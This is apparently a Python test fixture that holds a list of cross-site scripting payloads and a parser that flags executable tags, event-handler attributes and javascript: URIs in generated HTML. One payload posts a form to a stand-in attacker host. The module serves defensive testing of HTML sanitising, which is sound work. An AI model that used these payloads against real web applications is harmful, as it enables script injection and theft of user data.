"""Hostile texts, and a strict judge of whether HTML made from one could act."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)></svg>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "&lt;img src=x onerror=alert(1)&gt;",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "{{7*7}} {value} ${alert(1)}",
    '[x](javascript:alert(1)) ![x](x" onerror="alert(1))',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example'</style><form action=https://evil.example><button>x</form>",
    "</title></script></style></textarea><img src=x onerror=alert(1)>",
]

ACTING = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "style",
    "link",
    "meta",
    "base",
    "math",
    "mglyph",
    "input",
}


class _Judge(HTMLParser):
    def __init__(self, allowed: set[str]) -> None:
        super().__init__()
        self._allowed = allowed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element that acts, or an attribute that does."""
        if tag in ACTING - self._allowed:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "srcdoc":
                self.found.append(name)
            if re.match(r"\s*(javascript|vbscript|data:text)", value or "", re.IGNORECASE):
                self.found.append(f"{name}={value}")


def fires(text: str, allowed: frozenset[str] = frozenset()) -> list[str]:
    """Name the elements and attributes in some HTML that could act."""
    judge = _Judge(set(allowed))
    judge.feed(str(text))
    return judge.found
